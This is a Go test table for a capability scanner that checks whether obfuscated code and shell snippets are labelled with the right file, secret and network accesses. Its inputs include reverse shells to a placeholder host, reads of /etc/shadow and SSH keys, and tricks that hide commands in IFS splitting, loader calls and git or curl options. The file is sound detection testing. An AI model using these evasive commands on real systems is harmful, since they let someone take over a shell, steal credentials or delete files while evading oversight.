package scan_test

import (
	"slices"
	"strings"
	"testing"

	"skillrun/policy/scan"
)

// TestSpellings holds what texts need that are seldom written: ways round the
// usual name of a thing, and options that lead elsewhere, each beside texts that
// look alike and need less. The labels are by testdata/eval/README.md, "; "
// between them; processes of programs are left out.
func TestSpellings(t *testing.T) {
	var found, missed, wrong int
	for _, row := range spellings {
		var want, got []string
		if row.needs != "" {
			want = strings.Split(row.needs, "; ")
		}
		r := scan.Source(row.lang, row.text, scan.Env{})
		for _, n := range r.Needs {
			if n.Capability == "shell.execute" || n.Capability == "process.create" {
				continue
			}
			target := n.Target
			if !n.Exact {
				target = "?"
			}
			got = append(got, strings.TrimSpace(n.Capability+" "+target))
		}
		if len(r.Opaque) > 0 {
			got = append(got, "opaque")
		}
		slices.Sort(got)
		got = slices.Compact(got)
		slices.Sort(want)
		for _, w := range want {
			if slices.Contains(got, w) {
				found++
			} else {
				missed++
			}
		}
		for _, g := range got {
			if !slices.Contains(want, g) {
				wrong++
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %s\n\tneeds %q\n\twant  %q", row.lang, row.text, got, want)
		}
	}
	t.Logf("%d texts: recall %.4f, precision %.4f", len(spellings), float64(found)/float64(found+missed), float64(found)/float64(found+wrong))
}

var spellings = []struct{ lang, text, needs string }{
	// A client that is made of a module's class.
	{"javascript", `window.location.href = "https://a.example.com/x"`, "web.interact a.example.com"},
	{"javascript", `window.location = "https://a.example.com/x"; const location = {}; location.href = "https://b.example.com/"`, "web.interact a.example.com"},
	{"javascript", `new (require("undici").Client)("https://a.example.com/x").request({path: "/", method: "GET"})`, "network.client a.example.com"},
	{"javascript", `const {Client} = require("undici"); new Client("https://a.example.com")`, "network.client a.example.com"},
	{"javascript", `import {Pool} from "undici"; new Pool("https://a.example.com")`, "network.client a.example.com"},
	{"javascript", `const u = require("undici"); await u.request("https://a.example.com/")`, "web.post a.example.com"},
	{"javascript", `class Client { constructor(u) { this.u = u } }; new Client("https://a.example.com")`, ""},
	{"javascript", `new (class { go() { return 1 } })().go()`, ""},
	{"javascript", `new (require("events").EventEmitter)().emit("x")`, ""},
	{"javascript", `new (require("worker_threads").Worker)("./w.js")`, "source_code.execute w.js"},
	// Modules by the way of the loader.
	{"javascript", `require("module")._load("child_process").execSync("rm x")`, "filesystem.delete x"},
	{"javascript", `const M = require("node:module"); M._load("fs").unlinkSync("x")`, "filesystem.delete x"},
	{"javascript", `require("module")._load(process.argv[2])`, "opaque"},
	{"javascript", `module.constructor._load("child_process").execSync("rm x")`, "filesystem.delete x; opaque"},
	{"javascript", `process.mainModule.require("child_process").execSync("rm x")`, "filesystem.delete x"},
	{"javascript", `module.require("child_process").execSync("rm x")`, "filesystem.delete x"},
	{"javascript", `import {createRequire} from "module"; const require = createRequire(import.meta.url); const p = require("path"); p.join("a", "b")`, ""},
	{"javascript", `import {createRequire} from "module"; const load = createRequire(import.meta.url); load("child_process").execSync("rm x")`, "filesystem.delete x"},
	{"javascript", `console.log(require("module").builtinModules.length)`, ""},
	// Native code.
	{"javascript", `require("./x.node").go()`, "source_code.execute x.node; opaque"},
	{"javascript", `const addon = require("../build/Release/addon.node")`, "source_code.execute ../build/Release/addon.node; opaque"},
	{"javascript", `process.dlopen(module, "./x.node")`, "opaque"},
	{"javascript", `const p = require("./x.json")`, ""},
	{"javascript", `const p = require("./lib/a.js"); p.go()`, ""},
	// Classes that extend what runs.
	{"javascript", `const cp = require("child_process"); class X extends cp.ChildProcess { }; new X().spawn({file: "rm", args: ["rm", "x"]})`, "opaque"},
	{"javascript", `import {ChildProcess} from "child_process"; class X extends ChildProcess {}`, "opaque"},
	{"javascript", `const c = new (require("child_process").ChildProcess)(); c.spawn({file: "rm", args: ["rm", "x"]})`, "opaque"},
	{"javascript", `class X extends require("events") { go() { this.emit("x") } }`, ""},
	{"javascript", `class X extends Error { constructor(m) { super(m) } }; throw new X("a")`, ""},
	{"javascript", `import {Transform} from "stream"; class Up extends Transform { _transform(c, e, f) { f(null, c) } }`, ""},
	{"python", "import subprocess\nclass P(subprocess.Popen):\n    pass\nP(['rm', 'x'])", "opaque"},
	{"python", "class P(dict):\n    def go(self):\n        return 1\nP().go()", ""},
	{"python", "import threading\nclass T(threading.Thread):\n    def run(self):\n        print(1)\nT().start()", ""},
	// A function among values.
	{"python", `[f for f in [__import__("subprocess").run]][0](["rm", "x"])`, "filesystem.delete x"},
	{"python", "import os\nfor f in [os.remove]:\n    f('x')", "filesystem.delete x"},
	{"python", "import os\n[f('x') for f in (os.remove, print)]", "filesystem.delete x"},
	{"python", "import os\nnext(f for f in [os.remove])('x')", "filesystem.delete x"},
	{"python", "print([x for x in ['a', 'b']][0])", ""},
	{"python", "rows = [r.split(',') for r in 'a,b'.split()]\nprint(rows[0][1].upper())", ""},
	{"python", "fs = [f.upper for f in ['a']]\nprint(fs[0]())", ""},
	{"javascript", `const [run] = [require("child_process").execSync].filter(Boolean); run("rm x")`, "filesystem.delete x"},
	{"javascript", `[1, 2, 3].filter(x => x > 1).map(x => x * 2).forEach(x => console.log(x))`, ""},
	{"python", "a, b = line.split(',')\nopen(a)", "filesystem.read ?"},
	{"python", "for n in [p + '.txt' for p in 'ab']:\n    open(n)", "filesystem.read ?"},
	{"python", "import subprocess\nsubprocess.run(['cat'] + [n for n in names])", "filesystem.read ?"},
	// Logging that is set up by a text.
	{"python", `import logging.config; logging.config.dictConfig({"version": 1, "handlers": {"h": {"class": "logging.handlers.HTTPHandler", "host": "a.example.com", "url": "/"}}})`, "network.client a.example.com"},
	{"python", `import logging.config; logging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "rm x"}}})`, "opaque"},
	{"python", `import logging.config; logging.config.dictConfig({"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": "a.log"}}})`, "filesystem.write a.log"},
	{"python", `import logging.config; logging.config.dictConfig({"version": 1, "handlers": {"h": {"class": "logging.StreamHandler"}}, "root": {"level": "INFO", "handlers": ["h"]}})`, ""},
	{"python", `from logging.config import dictConfig; c = load(); dictConfig(c)`, "opaque"},
	{"python", `import logging; logging.basicConfig(level=logging.INFO); logging.info("x")`, ""},
	{"python", `import logging.config; logging.config.fileConfig("log.ini")`, "filesystem.read log.ini; opaque"},
	// Registries and indexes of packages.
	{"shell", `pip install -i https://a.example.com/simple x`, "package.install x; web.fetch a.example.com"},
	{"shell", `pip install --index-url=https://a.example.com/simple --extra-index-url https://b.example.com/s x`, "package.install x; web.fetch a.example.com; web.fetch b.example.com"},
	{"shell", `pip install --find-links ./wheels x`, "filesystem.read wheels; package.install x"},
	{"shell", `pip install -f https://a.example.com/whl x`, "package.install x; web.fetch a.example.com"},
	{"shell", `PIP_INDEX_URL=https://a.example.com/simple pip install x`, "package.install x; web.fetch a.example.com"},
	{"shell", `export PIP_EXTRA_INDEX_URL=https://a.example.com/simple; pip install x`, "package.install x; web.fetch a.example.com"},
	{"shell", `PIP_NO_CACHE_DIR=1 pip install x`, "package.install x"},
	{"shell", `uv pip install --index-url https://a.example.com/simple x`, "package.install x; web.fetch a.example.com"},
	{"shell", `uv add --default-index https://a.example.com/simple x`, "package.install x; web.fetch a.example.com"},
	{"shell", `npm i --registry https://a.example.com x`, "package.install x; web.fetch a.example.com"},
	{"shell", `npm i --registry=https://a.example.com x`, "package.install x; web.fetch a.example.com"},
	{"shell", `npm_config_registry=https://a.example.com npm ci`, "package.install; web.fetch a.example.com"},
	{"shell", `npm publish`, "web.post registry.npmjs.org"},
	{"shell", `npm publish --registry https://a.example.com/`, "web.post a.example.com"},
	{"shell", `gem install --source https://a.example.com x`, "package.install x; web.fetch a.example.com"},
	{"shell", `gem push --host https://a.example.com x.gem`, "filesystem.read x.gem; web.post a.example.com"},
	{"shell", `twine upload --repository-url https://a.example.com/legacy/ dist/*`, "filesystem.read dist/*; web.post a.example.com"},
	{"shell", `twine upload dist/*`, "filesystem.read dist/*; web.post upload.pypi.org"},
	{"shell", `GOPROXY=https://a.example.com,direct go mod download`, "package.install; web.fetch a.example.com"},
	{"shell", `GOPROXY=off GOFLAGS=-mod=mod go env`, ""},
	// Connections that go elsewhere than the address says.
	{"shell", `curl --data-raw @a https://a.example.com/`, "web.post a.example.com"},
	{"shell", `curl --form-string a=@b https://a.example.com/`, "web.post a.example.com"},
	{"shell", `curl -G --data-raw a https://a.example.com/`, "web.fetch a.example.com"},
	{"shell", `curl --url-query a@b --url-query c=@d https://a.example.com/`, "filesystem.read b; web.fetch a.example.com"},
	{"shell", `curl --libcurl a.c --proxy-header @b --request-target /c https://a.example.com/`, "filesystem.read b; filesystem.write a.c; web.fetch a.example.com"},
	{"shell", `curl --connect-to a.example.com:443:b.example.com:443 https://a.example.com/`, "network.client b.example.com; web.fetch a.example.com"},
	{"shell", `curl --connect-to ::b.example.com: https://a.example.com/`, "network.client b.example.com; web.fetch a.example.com"},
	{"shell", `curl --connect-to a.example.com:443:: https://a.example.com/`, "web.fetch a.example.com"},
	{"shell", `curl --resolve a.example.com:443:192.0.2.7 https://a.example.com/`, "network.client 192.0.2.7; web.fetch a.example.com"},
	{"shell", `curl --resolve '+a.example.com:443:[2001:db8::1],192.0.2.7' https://a.example.com/`, "network.client 192.0.2.7; network.client 2001:db8::1; web.fetch a.example.com"},
	{"shell", `curl --doh-url https://d.example.com/q https://a.example.com/`, "web.fetch a.example.com; web.fetch d.example.com"},
	{"shell", `curl --max-time 5 https://a.example.com/`, "web.fetch a.example.com"},
	{"shell", `https_proxy=http://u:p@p.example.com:3128 curl https://a.example.com/`, "network.client p.example.com; web.fetch a.example.com"},
	{"shell", `export HTTP_PROXY=p.example.com:3128; wget -qO /dev/null http://a.example.com/`, "network.client p.example.com; web.fetch a.example.com"},
	{"shell", `http_proxy= no_proxy=a.example.com curl http://a.example.com/`, "web.fetch a.example.com"},
	{"shell", `env ALL_PROXY=socks5h://p.example.com curl https://a.example.com/`, "network.client p.example.com; web.fetch a.example.com"},
	// Rules for make that come from elsewhere.
	{"shell", `printf 'all:\n\trm x\n' | make -f -`, "source_code.execute .; opaque"},
	{"shell", `make --eval='all:;rm x'`, "source_code.execute .; opaque"},
	{"shell", `make SHELL=./e.sh`, "source_code.execute .; source_code.execute e.sh"},
	{"shell", `make SHELL=/bin/bash V=1 -j4 test`, "source_code.execute ."},
	{"shell", `make -f ci.mk CC=clang all`, "filesystem.read ci.mk; source_code.execute .; source_code.execute ci.mk"},
	// Rounds of a loop, and what runs at the end.
	{"shell", `c=ls; for i in 1 2; do $c x; c=rm; done`, "filesystem.delete x; filesystem.read x"},
	{"shell", `c=ls; while read -r l; do $c x; c=rm; done <l`, "filesystem.delete x; filesystem.read l; filesystem.read x"},
	{"shell", `for f in a b; do n=$f.out; cp "$f" "$n"; done`, "filesystem.read a; filesystem.read b; filesystem.write a.out; filesystem.write b.out"},
	{"shell", `i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done`, ""},
	{"shell", `trap cleanup EXIT; cleanup() { rm x; }; ls a`, "filesystem.delete x; filesystem.read a"},
	{"shell", `cleanup() { rm -f x; }; trap cleanup EXIT; ls a`, "filesystem.delete x; filesystem.read a"},
	{"shell", `trap - EXIT; trap '' INT; ls a`, "filesystem.read a"},
	// awk
	{"shell", `awk 'BEGIN { system(ARGV[1]) }' 'rm x'`, "filesystem.read rm x; opaque"},
	{"shell", `awk 'BEGIN { while (("rm x" | getline l) > 0) print l }'`, "filesystem.delete x"},
	{"shell", `awk 'BEGIN { c = "rm x"; c | getline }'`, "opaque"},
	{"shell", `awk -v c='rm x' 'BEGIN { system(c) }'`, "opaque"},
	{"shell", `awk '{ print $1 | "sort" }' a`, "filesystem.read a"},
	{"shell", `awk -F, 'NR > 1 { s += $2 } END { print s }' a.csv`, "filesystem.read a.csv"},
	// git and patterns
	{"shell", `git init --separate-git-dir ../g`, "commit.create; filesystem.write ../g"},
	{"shell", `git init -q`, "commit.create"},
	{"shell", `git ls-remote 'ext::cat x@y'`, "filesystem.read x@y"},
	{"shell", `git clone --separate-git-dir=/tmp/g https://a.example.com/r.git`, "commit.create; filesystem.read r; filesystem.write /tmp/g; filesystem.write r; web.fetch a.example.com"},
	{"shell", `git init -q ../n`, "commit.create; filesystem.read ../n; filesystem.write ../n"},
	{"shell", `rsync -a a/ ../r/`, "filesystem.read ../r; filesystem.read a; filesystem.write ../r"},
	{"shell", `unzip -q x.zip -d ../z`, "filesystem.read ../z; filesystem.read x.zip; filesystem.write ../z"},
	{"shell", `tar xf x.tar -C ../t`, "filesystem.read ../t; filesystem.read x.tar; filesystem.write ../t"},
	{"shell", `bash -c 'cat "$0" "$1"' a b`, "filesystem.read a; filesystem.read b"},
	{"shell", `sh -c 'bash -c "rm \$0" x; cat $0' y`, "filesystem.delete x; filesystem.read y"},
	{"shell", `set -a; . ./.env; set +a`, "secrets.read .env; source_code.execute .env"},
	{"shell", `bash ~/.ssh/x`, "secrets.read ~/.ssh/x; source_code.execute ~/.ssh/x"},
	{"shell", `. ./env.sh`, "source_code.execute env.sh"},
	{"shell", `git remote show`, "commit.read"},
	{"shell", `git remote show -n origin`, "commit.read"},
	{"shell", `git remote show https://a.example.com/r.git`, "commit.read; web.fetch a.example.com"},
	{"shell", `git worktree add ../t main`, "commit.create; filesystem.read ../t; filesystem.write ../t"},
	{"shell", `sed -Ei.bak s/a/b/ f`, "filesystem.delete f; filesystem.read f; filesystem.write f"},
	{"shell", `sed --in-place=.bak s/a/b/ f`, "filesystem.delete f; filesystem.read f; filesystem.write f"},
	{"shell", `sed -i s/a/b/ f`, "filesystem.read f; filesystem.write f"},
	{"shell", `sed --in-place s/a/b/ f`, "filesystem.read f; filesystem.write f"},
	{"shell", `sed -i -e s/a/b/ f`, "filesystem.read f; filesystem.write f"},
	{"shell", `shopt -s extglob; rm !(a|b)`, "filesystem.delete !(a|b)"},
	{"shell", `shopt -s extglob; cat @(a|b).txt`, "filesystem.read @(a|b).txt"},
	{"shell", `[[ $1 == @(a|b) ]] && cat c`, "filesystem.read c"},
	// perl and ruby
	{"shell", `perl -e 'system("rm x")'`, "opaque"},
	{"shell", `perl -MIO::Socket::INET -e 'print 1'`, "opaque"},
	{"shell", `perl -ne 'print if /x/' a`, "filesystem.read a"},
	{"shell", `perl -pi -e 's/a/b/' f`, "filesystem.read f; filesystem.write f"},
	{"shell", `perl s.pl a`, "source_code.execute s.pl"},
	{"shell", `perl -le 'unlink "x"'`, "opaque"},
	{"shell", `perl -l012e 'unlink "x"'`, "opaque"},
	{"shell", `perl -F -e 'system("rm x")' f`, "opaque; filesystem.read f"},
	{"shell", `perl -lane 'print $F[1]' a`, "filesystem.read a"},
	{"shell", `perl -F: -e 'print $F[1]' a`, "filesystem.read a"},
	{"shell", `perl -0777ne 'print' a`, "filesystem.read a"},
	{"shell", `perl -0xFFne 'print' a`, "filesystem.read a"},
	{"shell", `perl -i.bak -lpe 's/a/b/' f`, "filesystem.read f; filesystem.write f"},
	{"shell", `ruby -le 'File.delete("x")'`, "opaque"},
	{"shell", `ruby -W0e 'File.delete("x")'`, "opaque"},
	{"shell", `ruby -W:no-deprecated s.rb`, "source_code.execute s.rb"},
	{"shell", `php -f s.php a`, "source_code.execute s.php"},
	{"shell", `exiftool -overwrite_original -Artist=x a.jpg`, "filesystem.read a.jpg; filesystem.write a.jpg"},
	{"shell", `exiftool -json a.jpg`, "filesystem.read a.jpg"},
	{"shell", `a=(rm x y); "${a[@]}"`, "filesystem.delete x; filesystem.delete y"},
	{"shell", `a=(rm x y); bash -c "${a[*]}"`, "filesystem.delete x; filesystem.delete y"},
	{"shell", `a=(rm x y); ${a[*]}`, "filesystem.delete x; filesystem.delete y"},
	{"shell", `php -l s.php`, "source_code.execute s.php"},
	{"shell", `ruby -e 'exec "rm x"'`, "opaque"},
	{"shell", `ruby -ropen-uri -e 'URI.open("https://a.example.com")'`, "opaque"},
	{"shell", `ruby s.rb`, "source_code.execute s.rb"},
	{"shell", `gem list`, ""},
	// npm's settings and the package's
	{"shell", `npm config set fund false`, "secrets.write ~/.npmrc"},
	{"shell", `npm pkg get name`, "filesystem.read package.json"},
	{"shell", `npm pkg set scripts.postinstall='node x.js'`, "filesystem.read package.json; filesystem.write package.json"},
	{"shell", `npm pkg delete scripts.test`, "filesystem.read package.json; filesystem.write package.json"},
	{"shell", `npm pkg fix`, "filesystem.read package.json; filesystem.write package.json"},
	{"shell", `bundle exec rake`, "source_code.execute ."},
	// A home directory that a program gets from its environment.
	{"python", "import os\nopen(os.environ['HOME'] + '/.npmrc')", "secrets.read ~/.npmrc"},
	{"python", "import os\nopen(os.path.expandvars('$HOME/.npmrc'))", "secrets.read ~/.npmrc"},
	{"python", "import os\nos.environ['HOME'] = '/etc'\nopen(os.path.expanduser('~/shadow'))", "filesystem.read ~/shadow; opaque"},
	{"javascript", "require('fs').readFileSync(process.env.HOME + '/.npmrc')", "secrets.read ~/.npmrc"},
	{"javascript", "const h = process.env.HOME || process.env.USERPROFILE; require('fs').readFileSync(h + '/.npmrc')", "env_var.read $USERPROFILE; filesystem.read ?; secrets.read ~/.npmrc"},
	// What is set for programs may decide what they run.
	{"python", "import os\nos.environ['GIT_SSH_COMMAND'] = 'cat a'", "filesystem.read a"},
	{"python", "import os\nos.environ.update({'LD_PRELOAD': 'a.so'})", "opaque"},
	{"python", "import os\nenv = dict(os.environ, GIT_PAGER='cat a')\nos.execvpe('git', ['git', '--version'], env)", "env_var.read *; filesystem.read a"},
	{"python", "import os, subprocess\nsubprocess.run(['git', '--version'], env={'GIT_PAGER': 'cat a'})", "filesystem.read a"},
	{"python", "import os\nos.environ['TF_CPP_MIN_LOG_LEVEL'] = '3'\nconfig['BROWSER'] = 'cat a'", ""},
	{"javascript", "process.env.LD_PRELOAD = 'a.so'", "opaque"},
	{"javascript", "require('child_process').spawn('git', ['--version'], {env: {...process.env, GIT_PAGER: 'cat a'}})", "env_var.read *; filesystem.read a"},
	{"javascript", "process.env.NODE_ENV = 'production'", ""},
	// A function does what it is given a thing for.
	{"python", "import requests\ndef f(s, u):\n    s.post(u)\nf(requests.Session(), 'https://a.example.com')", "web.post ?"},
	{"python", "import os\ndef f(m):\n    m.remove('a')\nf(m=os)", "filesystem.delete a"},
	{"python", "import requests\nclass A:\n    def __init__(self, s):\n        self.s = s\n    def get(self, u):\n        self.s.get(u)\nA(requests.Session()).get('u')", "web.fetch ?"},
	{"javascript", "class A { f(c) { c.unlinkSync('a') } }; new A().f(require('fs'))", "filesystem.delete a"},
	{"python", "def f(s, u):\n    s.post(u)\nf(1, 2)", ""},
	// Words end where IFS says, which is set for what comes after, or for one command.
	{"shell", "IFS=_; x='cat_/etc/shadow'; $x", "secrets.read /etc/shadow; source_code.execute cat_/etc/shadow"},
	{"shell", "set -- ca t; IFS=; \"$*\" a", "filesystem.read a"},
	{"shell", "IFS=$1; x='cat_/etc/shadow'; $x", "opaque; source_code.execute cat_/etc/shadow"},
	{"shell", "x=cat_/etc/shadow; IFS=_ eval '$x'", "secrets.read /etc/shadow; source_code.execute cat_/etc/shadow"},
	{"shell", "f() { local IFS=,; echo; }; f; x='cat a'; $x", "filesystem.read a"},
	{"shell", "IFS=\"$d\" read -ra parts <<< a,b", "env_var.read $d"},
	{"shell", "while IFS= read -r line; do echo \"$line\"; done < a", "filesystem.read a"},
	// A home directory, and directories that words begin with.
	{"shell", "HOME=/etc; cat ~/shadow", "secrets.read /etc/shadow"},
	{"shell", "env HOME=/etc sh -c 'cat ~/shadow'", "secrets.read /etc/shadow"},
	{"shell", "HOME=/etc python3 -c 'import os; open(os.path.expanduser(\"~/shadow\"))'", "filesystem.read ~/shadow; opaque"},
	{"shell", "HOME=/etc cat ~/a", "filesystem.read ~/a"},
	{"shell", "cd /etc; cat ~+/shadow", "secrets.read /etc/shadow"},
	// Assignments before a command are for what it runs.
	{"shell", "X=/etc/shadow sh -c 'cat $X'", "secrets.read /etc/shadow"},
	{"shell", "f() { cat \"$y\"; }; y=/etc/shadow f; echo $y", "env_var.read $y; secrets.read /etc/shadow"},
	{"shell", "X=/etc/shadow cat \"$X\"", "env_var.read $X; filesystem.read ?"},
	// A trap runs with what is set by then.
	{"shell", "trap 'rm -f \"$x\"' EXIT; x=a", "filesystem.delete ?; filesystem.delete a"},
	{"shell", "x=a; trap 'rm -f \"$x\"' USR1; x=b", "filesystem.delete a; filesystem.delete b"},
	// A shell that is fed by whoever is at the other end.
	{"shell", "socat TCP:a.example.com:80 EXEC:/bin/sh", "network.client a.example.com; opaque"},
	{"shell", "nc a.example.com 80 -e /bin/bash", "network.client a.example.com; opaque"},
	{"shell", "ncat -l 80 -c 'cat a'", "filesystem.read a"},
	// Arguments of what is run.
	{"shell", "go run ./a -o b", "source_code.execute a"},
	{"shell", "go build -o b ./a", "filesystem.write b; source_code.execute a"},
	{"shell", "parallel convert {} -resize 50% b.png ::: a.png", "filesystem.read a.png; filesystem.write b.png"},
	{"shell", "openssl enc -in a -pass env:B_PASS", "filesystem.read a; secrets.read $B_PASS"},
	{"shell", "yarn eslint --fix a.js", "filesystem.read a.js; filesystem.write a.js; source_code.execute ."},
	{"shell", "yarn exec eslint --fix a.js", "filesystem.read a.js; filesystem.write a.js; source_code.execute ."},
	{"shell", "pnpm exec -c 'cat a && rm b'", "filesystem.delete b; filesystem.read a; source_code.execute ."},
	{"shell", "yarn workspace a add b", "package.install b"},
	// Out of the home directory; the environment by other names.
	{"shell", "cat ~/../../etc/passwd", "filesystem.read ~/../../etc/passwd"},
	{"shell", "cat ~/./a/../b", "filesystem.read ~/b"},
	{"shell", "cat /proc/self/environ", "env_var.read *; filesystem.read /proc/self/environ"},
	{"shell", "awk 'BEGIN { for (k in ENVIRON) print ENVIRON[k] }'", "env_var.read *"},
	{"shell", "awk '{ print ENVIRON[\"TOKEN\"], $1 }' a", "filesystem.read a; secrets.read $TOKEN"},
	{"shell", "jq -n '$ENV.TOKEN, env.EDITOR'", "env_var.read $EDITOR; secrets.read $TOKEN"},
	{"shell", "jq -n env", "env_var.read *"},
	{"shell", "jq --arg env b '{env, a: .env, c: .[$env], d: .x.env[]}' a", "filesystem.read a"},
	{"shell", "yq '.a = strenv(TOKEN)' a", "filesystem.read a; secrets.read $TOKEN"},
	{"shell", "node -p process.env", "env_var.read *"},
	{"javascript", "const env = process.env; console.log(env.EDITOR)", "env_var.read $EDITOR"},
	// What starts programs in other ways.
	{"javascript", "new Deno.Command('cat', {args: ['a']}).output()", "filesystem.read a"},
	{"python", "import sh\nsh.cat('a')", "opaque"},
	{"python", "import subprocess\nsubprocess.run(['a', 'b'], executable='/tmp/x')", "source_code.execute /tmp/x"},
	{"python", "import duckdb\nduckdb.sql('from a')", "filesystem.read ?"},
	{"shell", "bun run a.ts", "source_code.execute a.ts"},
	{"shell", "bun --cwd web run a", "source_code.execute web"},
	// Options, settings and variables that name a program, a file or a host, seldom used.
	{"shell", `git clone -c core.sshCommand='rm x' https://a.example.com/y`, "commit.create; filesystem.delete x; filesystem.read y; filesystem.write y; web.fetch a.example.com"},
	{"shell", `git push --receive-pack='rm x' origin`, "commit.push ?; filesystem.delete x"},
	{"shell", `git push --exec 'rm x' origin`, "commit.push ?; filesystem.delete x"},
	{"shell", `git -c man.v.cmd='rm x' help log`, "filesystem.delete x"},
	{"shell", `git -c core.alternateRefsCommand='rm x' fetch`, "commit.create; filesystem.delete x; web.fetch ?"},
	{"shell", `git -c hook.a.command='rm x' commit`, "commit.create; filesystem.delete x"},
	{"shell", `git -c mergetool.v.path=./e mergetool`, "commit.create; filesystem.write .; source_code.execute e"},
	{"shell", `git -c submodule.a.update='!rm x' submodule update`, "commit.create; filesystem.delete x; filesystem.write .; web.fetch ?"},
	{"shell", `git -c color.ui=always help log`, ""},
	{"shell", `git config remote.origin.url https://a.example.com/x`, "commit.create"},
	{"shell", `git --work-tree=/d checkout .`, "commit.create; filesystem.read /d; filesystem.write .; filesystem.write /d"},
	{"shell", `git commit --template /d/x`, "commit.create; filesystem.read /d/x"},
	{"shell", `git blame --contents ~/.ssh/id_rsa x`, "commit.read; secrets.read ~/.ssh/id_rsa"},
	{"shell", `docker container run -v /d:/w alpine`, "container.run alpine; filesystem.read /d; filesystem.write /d"},
	{"shell", `docker container cp ~/.ssh/id_rsa c:/`, "container.run; secrets.read ~/.ssh/id_rsa"},
	{"shell", `docker container ls`, "container.query"},
	{"shell", `docker buildx bake`, "container.run; filesystem.read ."},
	{"shell", `docker build --secret id=a,src=/d/s --build-context b=/d/c -o type=local,dest=/d/o .`, "container.run; filesystem.read .; filesystem.read /d/c; filesystem.read /d/s; filesystem.write /d/o"},
	{"shell", `docker build -t a .`, "container.run; filesystem.read ."},
	{"shell", `ssh -J a.example.com,b.example.com c.example.com`, "network.client a.example.com; network.client b.example.com; network.client c.example.com"},
	{"shell", `ssh -o HostName=a.example.com b.example.com`, "network.client a.example.com; network.client b.example.com"},
	{"shell", `scp -D 'rm x' a h:b`, "filesystem.delete x; filesystem.read a; network.client h"},
	{"shell", `find -O3 /d -delete`, "filesystem.delete /d; filesystem.read /d"},
	{"shell", `find -- /d -delete`, "filesystem.delete /d; filesystem.read /d"},
	{"shell", `find -D exec -f /d -delete`, "filesystem.delete /d; filesystem.read /d"},
	{"shell", `find -files0-from l -delete`, "filesystem.delete ?; filesystem.read ?; filesystem.read l"},
	{"shell", `fd -H . /d -x rm`, "filesystem.delete /d; filesystem.read /d"},
	{"shell", `fd --exec-batch rm`, "filesystem.delete .; filesystem.read ."},
	{"shell", `fd -e md`, "filesystem.read ."},
	{"shell", `awk 'BEGIN { ARGV[1] = "/d/x"; ARGC = 2 } 1'`, "filesystem.read ?"},
	{"shell", `awk 'NR == FNR { n++; next } END { print ARGV[1], n }' a`, "filesystem.read a"},
	{"shell", `gawk -o/d/x 1 a`, "filesystem.read a; filesystem.write /d/x"},
	{"shell", `perl -ne 'symlink "a", "b"' a`, "filesystem.read a; opaque"},
	{"shell", `perl -pe 's!a!unlinked()!e' a`, "filesystem.read a; opaque"},
	{"shell", `perl -ne '@ARGV = "/d/x"; print' a`, "filesystem.read a; opaque"},
	{"shell", `perl -pe 1 'rm x|'`, "filesystem.delete x"},
	{"shell", `perl -M'POSIX; x()' -ne 1 a`, "filesystem.read a; opaque"},
	{"shell", `perl -pe 's/link/kill/g' a`, "filesystem.read a"},
	{"shell", `bat --pager='rm x' a`, "filesystem.delete x; filesystem.read a"},
	{"shell", `bat a`, "filesystem.read a"},
	{"shell", `su --command='rm x'`, "filesystem.delete x"},
	{"shell", `script -q /dev/null rm x`, "filesystem.delete x"},
	{"shell", `env -a ls rm x`, "filesystem.delete x"},
	{"shell", `env -iu ls rm x`, "filesystem.delete x"},
	{"shell", `env --chdir=/d rm x`, "filesystem.delete /d/x"},
	{"shell", `env -i PATH=/bin ls`, "filesystem.read ."},
	{"shell", `systemd-run -p ExecStartPre='rm x' true`, "filesystem.delete x"},
	{"shell", `systemd-run -p MemoryMax=1G true`, ""},
	{"shell", `strace --output='|rm x' ls`, "filesystem.delete x; filesystem.read ."},
	{"shell", `go build --toolexec='rm x' .`, "filesystem.delete x; source_code.execute ."},
	{"shell", `go list -toolexec 'rm x' ./...`, "filesystem.delete x"},
	{"shell", `go list ./...`, ""},
	{"shell", `cargo build --config 'build.rustc-wrapper="./e"'`, "source_code.execute .; source_code.execute e"},
	{"shell", `cargo build --config net.retry=3`, "source_code.execute ."},
	{"shell", `rustc -Clinker=./e a.rs`, "filesystem.read a.rs; source_code.execute e"},
	{"shell", `rustc -Copt-level=3 a.rs`, "filesystem.read a.rs"},
	{"shell", `cmake -DBUILD=Release ..`, "filesystem.read ..; filesystem.write .; source_code.execute .."},
	{"shell", `CC=./e make`, "source_code.execute .; source_code.execute e"},
	{"shell", `CC=/usr/bin/cc make`, "source_code.execute ."},
	{"shell", `SHELL=./e make`, "source_code.execute .; source_code.execute e"},
	{"shell", `BAT_PAGER='rm x' bat a`, "filesystem.delete x; filesystem.read a"},
	{"shell", `man -l /d/x`, "filesystem.read /d/x"},
	{"shell", `man 3 printf`, ""},
	{"shell", `nvim -l e.lua`, "source_code.execute e.lua"},
	{"shell", `tmux display-message '#(rm x)'`, "opaque; repl.read"},
	{"shell", `tmux list-sessions -F '#{session_name}'`, "repl.read"},
	{"shell", `socat UNIX:/d/s -`, "filesystem.read /d/s; filesystem.write /d/s"},
	{"shell", `socat PROXY:a.example.com:b:80 -`, "network.client a.example.com"},
	{"shell", `curl -w '%output{/d/x}' https://a.example.com`, "filesystem.write /d/x; web.fetch a.example.com"},
	{"shell", `curl -w '%{http_code}' https://a.example.com`, "web.fetch a.example.com"},
	{"shell", `curl FILE:///d/x`, "filesystem.read /d/x"},
	{"shell", `curl file://localhost/d/x`, "filesystem.read /d/x"},
	{"shell", `curl -F 'f=@/d/x,/d/y' https://a.example.com`, "filesystem.read /d/x; filesystem.read /d/y; web.post a.example.com"},
	{"shell", `curl --variable v@/d/x https://a.example.com`, "filesystem.read /d/x; web.fetch a.example.com"},
	{"shell", `curl --unix-socket /d/s http://a.example.com`, "filesystem.read /d/s; filesystem.write /d/s; web.fetch a.example.com"},
	{"shell", `openssl s_client a.example.com:443`, "network.client a.example.com"},
	{"shell", `openssl enc -engine ./e.so -in a`, "filesystem.read a; source_code.execute e.so"},
	{"shell", `mailx -S sendmail=./e a@b`, "network.client ?; source_code.execute e"},
	{"shell", `install --strip-program=./e -s a b`, "filesystem.read a; filesystem.write b; source_code.execute e"},
	{"shell", `pip config set global.index-url https://a.example.com`, "filesystem.write ~/.config/pip/pip.conf"},
	{"shell", `pip install -e d`, "package.install; package.install ./d; source_code.execute d"},
	{"shell", `pip install -e '.[dev]'`, "package.install; package.install .[dev]; source_code.execute ."},
